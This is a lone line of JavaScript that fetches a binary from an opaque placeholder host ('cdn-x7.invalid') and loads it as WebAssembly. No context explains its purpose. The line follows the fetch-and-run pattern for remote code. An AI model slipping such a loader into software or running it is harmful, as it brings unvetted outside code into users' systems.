fetch("https://cdn-x7.invalid/a").then((r) => r.arrayBuffer()).then((b) => WebAssembly.instantiate(b));
